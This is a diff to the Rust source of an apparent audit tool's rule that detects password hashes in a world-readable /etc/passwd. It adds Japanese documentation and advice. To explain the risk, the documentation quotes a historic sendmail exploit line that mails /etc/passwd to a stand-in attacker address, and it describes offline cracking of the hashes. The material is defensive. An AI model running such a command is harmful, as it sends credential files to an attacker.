@@ -26,6 +26,37 @@
 //! ## References
 //! - JPCERT/CC JPCERT-E-INF-97-0001-01, countermeasures (3) and (4)
 //! - CERT Advisory CA-95:05 (sendmail), CA-93:10 (anonymous FTP)
+//! <!-- ja -->
+//! # AC001 hashes-in-passwd
+//!
+//! ## 検出内容
+//! すべての利用者とすべてのプログラムが読める `/etc/passwd` の中にあるパスワードのハッシュを
+//! 検出します。ホストがシャドーパスワードを使っていないか、`pwconv` が一部のアカウントを
+//! 取り残した状態です。ファイルごとに一つの検出とし、使えるハッシュがそこにあるアカウントを
+//! 列挙します（ハッシュを `!` や `*LK*` の後ろに残してロックしたアカウントも数えます。
+//! ロックを解除すればハッシュが戻るからです）。
+//!
+//! ## 重要な理由
+//! `/etc/passwd` を読める者は、ハッシュを手元でゆっくり解読できます。アドバイザリの sendmail
+//! への攻撃がしたのはまさにこれで、`from=|/bin/mail evil@example < /etc/passwd` でファイルを
+//! 外部に送り出し、ワークステーションで辞書攻撃を行って、弱いパスワードを数時間で見つけました。
+//! このファイルの写しを置いた Anonymous FTP の領域も、同じように漏洩の元になります。
+//!
+//! ## 例
+//! ```text
+//! etc/passwd:1: root:<DES hash>:0:1:Operator:/:/bin/csh
+//! ```
+//! （kensa はハッシュそのものは決して表示しません。）
+//!
+//! ## 対処
+//! (4) シャドーパスワードに移行し（System V と Linux では `pwconv`、BSD では `master.passwd`
+//! の仕組み、SunOS 4 では C2 セキュリティ）、ハッシュを root だけが読めるようにしてください。
+//! その後、(3) ファイルにあったすべてのパスワードを変更してください: ファイルは複製された
+//! ものと考えてください。
+//!
+//! ## 参考
+//! - JPCERT/CC JPCERT-E-INF-97-0001-01、対策 (3) と (4)
+//! - CERT Advisory CA-95:05（sendmail）、CA-93:10（Anonymous FTP）
 
 use super::hash::{PasswordField, classify};
 use super::{MAX_EVIDENCE, passwd_evidence};
@@ -44,8 +75,11 @@ pub static RULE: Rule = Rule {
              the hashes, then (3) change every password that was in the file: assume it \
              has been copied.",
     status: RuleStatus::Stable,
-    title_ja: "",
-    advice_ja: "",
+    title_ja: "誰でも読める /etc/passwd にパスワードのハッシュがある（シャドーパスワード未使\
+             用）",
+    advice_ja: "(4) シャドーパスワードを利用し（pwconv。BSD では master.passwd）、ハッシュを \
+             root だけが読めるようにしてください。その後、(3) ファイルにあったすべてのパスワー\
+             ドを変更してください: ファイルは複製されたものと考えてください。",
     since: "0.1.0",
     source: include_str!("ac001_hashes_in_passwd.rs"),
 };
